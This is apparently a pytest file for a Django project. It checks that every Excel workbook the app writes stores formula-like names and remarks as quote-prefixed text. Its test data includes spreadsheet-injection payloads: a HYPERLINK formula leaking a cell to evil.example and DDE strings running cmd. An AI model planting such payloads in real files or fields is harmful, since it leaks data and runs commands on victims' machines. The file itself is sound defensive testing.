"""Every workbook we write keeps text as text: a name, remark or change reason that starts like a
formula (= + - @, their full-width forms, a tab or a line break) is stored as a string with the
quotePrefix style, its text unchanged, in the report, the three import templates, the admin's
changelist exports and its history exports; and an exported template imports back unchanged.
Every writer builds its workbook with projects.workbooks.cells.Workbook (checked on the source)."""

import ast
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

import projects
from projects.models import (
    Citation,
    EntryBasis,
    IndicatorValue,
    Portfolio,
    Project,
    ReportSchedule,
    SourceDocument,
    Zone,
    ZoneRole,
)
from projects.money import AmountScale
from projects.reports.cadence import period_containing
from projects.reports.changes import changes_between
from projects.reports.snapshot import build_snapshot, fingerprint
from projects.reports.xlsx import render_xlsx
from projects.workbooks import cells
from projects.workbooks.imports import check_import
from projects.workbooks.template import indicators_template, monthly_template, projects_template
from tests.factories import (
    EnterpriseFactory,
    IndicatorValueFactory,
    MetricFactory,
    PortfolioEntryFactory,
    PortfolioFactory,
    ProjectFactory,
    UserFactory,
    ZoneFactory,
    ZoneMembershipFactory,
)
from tests.test_admin_permissions import change_form_data

pytestmark = pytest.mark.django_db

# Written here, not imported from the code under test: what Excel would run.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "＝HYPERLINK(“http://evil.example”)"
TAB = "\t=1+1"
CR = "\r=1+1"
LF = "\n=1+1"
HOSTILE = (LINK, PLUS, MINUS, AT, WIDE, TAB, CR, LF)
TODAY = date(2022, 6, 3)  # May 2022 is open until 10 June


def all_cells(content: bytes) -> list:
    """Every cell of every sheet (hidden ones too), loaded in full so that styles are read."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_kept(content: bytes, texts) -> None:
    """No cell is a formula; every text Excel would run is a quote-prefixed string; each of `texts`
    is the whole value of some cell, exactly."""
    found = all_cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    risky = [c for c in found if isinstance(c.value, str) and c.value.startswith(STARTS)]
    assert [(c.coordinate, c.value) for c in risky if not (c.data_type == "s" and c.quotePrefix)] == []
    values = {c.value for c in found}
    assert [text for text in texts if text not in values] == []


# ---------------------------------------------------------------------------------------------
# The one helper


def test_the_workbook_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    book = cells.Workbook()
    sheet = book.active
    sheet.append([LINK, PLUS, MINUS, AT, WIDE, TAB, CR, LF, "#N/A"])
    sheet["A2"] = LINK
    sheet.cell(row=3, column=1, value=-3)
    sheet.cell(row=3, column=2, value=Decimal("-2.5"))
    sheet.cell(row=3, column=3, value="-3")
    sheet.cell(row=3, column=4, value="普通文字 = 1")
    book.create_sheet("隐藏").append([LINK])
    out = io.BytesIO()
    book.save(out)

    assert_text_kept(out.getvalue(), [*HOSTILE, "#N/A", "-3"])
    saved = load_workbook(io.BytesIO(out.getvalue()))
    first = saved.worksheets[0]
    assert [(c.value, c.data_type, c.quotePrefix) for c in first[3][:4]] == [
        (-3, "n", False),
        (-2.5, "n", False),
        ("-3", "s", True),
        ("普通文字 = 1", "s", False),
    ]
    assert (first["I1"].value, first["I1"].data_type) == ("#N/A", "s")  # not an error value


def test_a_write_only_workbook_keeps_text_as_text_in_plain_and_styled_cells():
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = cells.Workbook(write_only=True)
    sheet = book.create_sheet("导出")
    header = WriteOnlyCell(sheet, value=PLUS)
    header.font = Font(bold=True)
    sheet.append([header, LINK, -3, 1.5])
    sheet.append(row for row in [AT, "普通"])
    out = io.BytesIO()
    book.save(out)

    assert_text_kept(out.getvalue(), [PLUS, LINK, AT, "普通"])
    row = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert (row[0].font.b, row[2].value, row[2].data_type) == (True, -3, "n")


def openpyxl_workbook_imports(tree: ast.AST) -> list[int]:
    """Lines that import openpyxl's Workbook class, or use it as openpyxl.Workbook."""
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            lines += [node.lineno for alias in node.names if alias.name == "Workbook"]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr == "Workbook"
            and isinstance(node.value, ast.Name)
            and node.value.id == "openpyxl"
        ):
            lines.append(node.lineno)
    return lines


def test_no_module_but_the_helper_makes_openpyxl_workbooks():
    """A writer added later must build its workbook with projects.workbooks.cells.Workbook."""
    package = Path(projects.__file__).parent
    helper = Path(cells.__file__)
    offenders = {
        str(path.relative_to(package)): lines
        for path in sorted(package.rglob("*.py"))
        if path != helper and (lines := openpyxl_workbook_imports(ast.parse(path.read_text())))
    }
    assert offenders == {}
    assert openpyxl_workbook_imports(ast.parse(helper.read_text()))  # the check finds an import


# ---------------------------------------------------------------------------------------------
# The report (stored, downloaded and e-mailed as rendered here)


def test_the_report_workbook_keeps_hostile_names_as_text(seeded):
    zone = Zone.objects.get(name="赣县区")
    Project.objects.filter(name="人民医院综合大楼").update(name=LINK)
    Portfolio.objects.filter(zone=zone, name="市级工业倍增升级重点调度项目").update(name=PLUS)
    SourceDocument.objects.update(title=AT)
    Citation.objects.update(quote=WIDE)
    Zone.objects.filter(pk=zone.pk).update(name=MINUS)
    zone.refresh_from_db()
    snapshot = build_snapshot(ReportSchedule(zone=zone), period_containing("monthly", 5, date(2022, 12, 15)))
    snapshot["changes"] = changes_between(None, snapshot)
    snapshot["fingerprint"] = fingerprint(snapshot)
    snapshot["generated_at"] = "2022-12-15T10:00:00+08:00"

    content = render_xlsx(snapshot)

    assert_text_kept(content, [LINK, PLUS, MINUS, AT])
    texts = [c.value for c in all_cells(content) if isinstance(c.value, str)]
    assert any(WIDE in value for value in texts)  # a quote, inside its source's cell


# ---------------------------------------------------------------------------------------------
# The import templates, and their round trip through the import


@pytest.fixture
def hostile_zone(investment):
    """A zone whose portfolio, projects, enterprise, description and remarks are hostile."""
    zone = ZoneFactory(name="赣县区", entry_deadline_day=10, entry_basis=EntryBasis.YEAR_TO_DATE)
    portfolio = PortfolioFactory(zone=zone, name=PLUS, year=2022)
    enterprise = EnterpriseFactory(name=AT)
    for name, remark in ((LINK, MINUS), (WIDE, LINK), (MINUS, AT)):
        project = ProjectFactory(
            zone=zone,
            name=name,
            enterprise=enterprise,
            description=PLUS,
            total_investment=Decimal(100) * 10**8,
        )
        PortfolioEntryFactory(portfolio=portfolio, project=project, planned_investment=Decimal(10**9))
        IndicatorValueFactory(
            zone=None,
            project=project,
            metric=investment,
            year=2022,
            start_month=1,
            end_month=5,
            value=Decimal(1000) * 10_000,
            scale=AmountScale.WAN,
            note=remark,
        )
    return zone


def test_the_monthly_template_keeps_hostile_text_and_imports_back_unchanged(hostile_zone):
    content = monthly_template(hostile_zone, 2022, 5, today=TODAY)
    assert_text_kept(content, [LINK, WIDE, MINUS, AT, PLUS])

    result = check_import("monthly", content, user=UserFactory(is_superuser=True), today=TODAY)
    assert result.findings == []
    assert result.summary() == {"created": 0, "updated": 0, "restated": 0, "milestones": 0, "unchanged": 3}
    assert sorted(IndicatorValue.objects.values_list("note", flat=True)) == sorted([MINUS, LINK, AT])


def test_the_projects_template_keeps_hostile_text_and_imports_back_unchanged(hostile_zone):
    content = projects_template(hostile_zone)
    assert_text_kept(content, [LINK, WIDE, MINUS, AT, PLUS])

    result = check_import("projects", content, user=UserFactory(is_superuser=True), today=TODAY)
    assert result.findings == []
    assert result.summary() == {"created": 0, "updated": 0, "restated": 0, "unchanged": 3}


def test_the_indicators_template_keeps_hostile_zone_and_metric_names(investment):
    zone = ZoneFactory(name=LINK)
    metric = MetricFactory(name=AT)
    IndicatorValueFactory(zone=zone, metric=metric, year=2022, end_month=5)
    assert_text_kept(indicators_template(zone), [LINK, AT])


# ---------------------------------------------------------------------------------------------
# The admin's exports


@pytest.mark.parametrize(
    ("model_name", "expected"),
    [("project", [LINK, AT, MINUS]), ("enterprise", [AT]), ("zone", [MINUS])],
)
def test_changelist_exports_keep_hostile_text(staff_client, model_name, expected):
    ProjectFactory(name=LINK, enterprise=EnterpriseFactory(name=AT), zone=ZoneFactory(name=MINUS))
    response = staff_client.get(reverse(f"admin:projects_{model_name}_export"))
    assert response.status_code == 200
    assert_text_kept(b"".join(response.streaming_content), expected)


def test_the_history_export_keeps_hostile_names_and_reasons(client):
    zone = ZoneFactory(name="赣县区")
    editor = ZoneMembershipFactory(zone=zone, role=ZoneRole.EDITOR).user
    client.force_login(editor)
    project = ProjectFactory(zone=zone, name="赣州高新区新能源电池项目")
    change = reverse("admin:projects_project_change", args=[project.pk])
    data = change_form_data(client.get(change))
    data.update({"name": LINK, "description": TAB, "change_reason": PLUS})
    response = client.post(change, data)
    assert response.status_code == 302, response.context["adminform"].form.errors

    response = client.get(reverse("admin:projects_project_history_export", args=[project.pk]))
    assert response.status_code == 200
    assert_text_kept(b"".join(response.streaming_content), [LINK, PLUS])
